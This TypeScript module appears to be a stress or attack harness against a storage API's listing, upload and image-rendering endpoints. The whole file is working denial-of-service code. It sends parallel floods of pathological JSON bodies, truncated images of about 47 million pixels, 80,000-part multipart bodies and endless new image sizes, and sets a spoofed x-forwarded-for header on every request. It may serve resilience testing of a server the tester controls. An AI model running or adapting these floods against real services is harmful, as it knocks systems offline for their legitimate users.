import { randomUUID } from 'node:crypto';
import sharp from 'sharp';

/** The server that is attacked. It must trust 127.0.0.1 as a proxy for the attacks to come from `network`. */
export interface StorageTarget {
  /** Without a slash at the end. */
  readonly url: string;
  readonly publishableKey: string;
  readonly network: string;
}

/** An account of the attacker. */
export interface StorageAccount {
  readonly userId: string;
  readonly accessToken: string;
}

/** How many responses had which status; 0 stands for none. */
export type Statuses = ReadonlyMap<number, number>;

/** The next request of an attack; `index` counts from 0. */
type NextRequest = (index: number) => readonly [path: string, init: RequestInit];

const lanes = 16;

/** Sends requests in several lanes, as fast as they are answered, until the signal. */
async function flood(target: StorageTarget, next: NextRequest, signal: AbortSignal): Promise<Statuses> {
  const statuses = new Map<number, number>();
  let index = 0;
  async function lane(): Promise<void> {
    while (!signal.aborted) {
      const [path, init] = next(index++);
      const headers = new Headers(init.headers);
      headers.set('apikey', target.publishableKey);
      headers.set('x-forwarded-for', target.network);
      const status = await fetch(`${target.url}/storage/v1${path}`, { ...init, headers, signal }).then(
        async (response) => {
          await response.arrayBuffer();
          return response.status;
        },
        () => 0,
      );
      if (!signal.aborted) statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }
  }
  await Promise.all(Array.from({ length: lanes }, lane));
  return statuses;
}

/** Sends JSON that takes long to parse, check or cut, without an account. */
export function floodListings(target: StorageTarget, signal: AbortSignal): Promise<Statuses> {
  const bodies = [
    ['POST', '/object/list/imagenes', `{"prefix":"${'/'.repeat(1_000_000)}x"}`],
    ['POST', '/object/list/imagenes', `{"prefix":"${'/'.repeat(60_000)}x"}`],
    ['DELETE', '/object/imagenes', `{"prefixes":[${'1,'.repeat(120_000)}1]}`],
    ['DELETE', '/object/imagenes', `{"prefixes":[${'{},'.repeat(80_000)}{}]}`],
    ['DELETE', '/object/imagenes', JSON.stringify({ prefixes: Array(1000).fill('x'.repeat(250)) })],
  ] as const;
  const next: NextRequest = (index) => {
    const [method, path, body] = bodies[index % bodies.length] ?? bodies[0];
    return [path, { method, body }];
  };
  return flood(target, next, signal);
}

/** Uploads pictures of 47 million pixels, half of them broken at the end, and bodies of many empty parts. */
export async function floodUploads(
  target: StorageTarget,
  { userId, accessToken }: StorageAccount,
  signal: AbortSignal,
): Promise<Statuses> {
  const blank = sharp({ create: { width: 6900, height: 6800, channels: 3, background: '#b5622e' } });
  const whole = new Uint8Array(await blank.jpeg().toBuffer());
  const part = '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n';
  const bodies = [
    [whole, 'image/jpeg'],
    [whole.slice(0, -100), 'image/jpeg'],
    [`${part.repeat(80_000)}--x--\r\n`, 'multipart/form-data; boundary=x'],
  ] as const;
  const next: NextRequest = (index) => {
    const [body, type] = bodies[index % bodies.length] ?? bodies[0];
    const headers = { authorization: `Bearer ${accessToken}`, 'content-type': type };
    return [
      `/object/imagenes/profile-photos/${userId}-${randomUUID()}.jpg`,
      { method: 'POST', headers, body },
    ];
  };
  return flood(target, next, signal);
}

/** Asks for a public photo in a new size each time, without an account. */
export function floodRenditions(
  target: StorageTarget,
  photoPath: string,
  signal: AbortSignal,
): Promise<Statuses> {
  return flood(
    target,
    (index) => [
      `/render/image/public/imagenes/${photoPath}?width=${100 + (index % 900)}&quality=${20 + (index % 80)}&format=avif`,
      {},
    ],
    signal,
  );
}
